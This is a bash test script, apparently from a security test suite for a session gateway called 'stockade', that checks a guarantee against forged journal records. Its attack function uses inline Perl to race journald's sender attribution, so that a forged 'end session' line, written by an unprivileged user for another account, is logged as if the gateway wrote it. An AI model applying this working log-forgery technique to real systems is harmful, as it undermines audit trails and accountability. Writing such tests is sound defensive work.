#!/bin/bash
# SPDX-License-Identifier: ISC
# Writes a record and becomes the gateway before the journal looks who it was, as another account; a record must be of its
# own account to be verified. The control believes every record of the gateway's.
# guarantee: G8
# shellcheck shell=bash disable=SC2034,SC2154,SC2016

attack() {
	local try name=streamed$RANDOM
	for try in $(seq 40); do
		timeout 10 runuser -u plain -- perl -MSocket -e 'my $line = "end session=forgedcc user=build actor=$ARGV[0] by=payload exit=0\n";
			for my $stream (*S, *T) { socket($stream, AF_UNIX, SOCK_STREAM, 0); connect($stream, sockaddr_un("/run/systemd/journal/stdout")) or die;
				syswrite($stream, "stockade\n\n86\n0\n0\n0\n0\n") }
			pipe(R, W); fcntl(W, 4, 04000); 1 while syswrite(W, "x" x 4096); fcntl(W, 4, 0); fcntl($_, 2, 0) for *R, *W;
			# The gateway stays, at its sentence into the full pipe; the journal is kept busy beside it.
			open(STDERR, ">&W"); open(STDIN, "<&R"); alarm 1; syswrite(T, "x\n" x 40); syswrite(S, $line); exec "/usr/bin/stockade-gateway", "-c", "x"' $name >/dev/null 2>&1
		journalctl --sync
		if journalctl -q _EXE=/usr/bin/stockade-gateway -o cat -n 50 | grep -q "actor=$name"; then
			[ "$mode" = control ] || ! stockade last -n 300 | grep -v UNVERIFIED | grep -q "$name" || return 0
			[ "$mode" = attack ] || return 0
			return 1
		fi
	done
	echo "the journal was never late"
	return 2
}
